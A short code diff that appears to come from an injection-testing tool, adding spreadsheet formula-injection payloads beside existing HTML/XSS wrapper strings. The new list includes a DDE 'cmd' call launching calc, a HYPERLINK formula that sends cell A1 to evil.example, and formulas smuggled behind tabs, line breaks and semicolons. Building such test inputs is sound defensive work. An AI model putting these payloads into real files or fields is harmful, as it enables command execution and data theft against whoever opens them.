@@ -59,5 +59,21 @@ TAGS = [
 ]
 WRAPPINGS = ["{}", '"{}', "'{}", "&{}", "&lt;{}", ">{}", "</span>{}", '" onload="{}', "{}\x00", "x{}y"]
 
+STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", '"=']
+CALLS = [
+    "{}1+1",
+    "{}cmd|' /C calc'!A0",
+    '{}HYPERLINK("https://evil.example?"&A1;"x")',
+    "\t{}1+1",
+    "\r\n{}1+1",
+    "x;{}1+1",
+    'x;"";{}1+1',
+    "{}-5",
+    '{}1","{}2',
+    "{}SUM(A1:A9)*cmd|x!A",
+]
+FORMULAS = [call.replace("{}", start) for call, start in product(CALLS, STARTS)]
+"""A hundred texts that a spreadsheet would work out, as a cell or behind a semicolon."""
+
 PAYLOADS = [wrapping.replace("{}", tag) for tag, wrapping in product(TAGS, WRAPPINGS)]
 """A hundred pieces of HTML."""
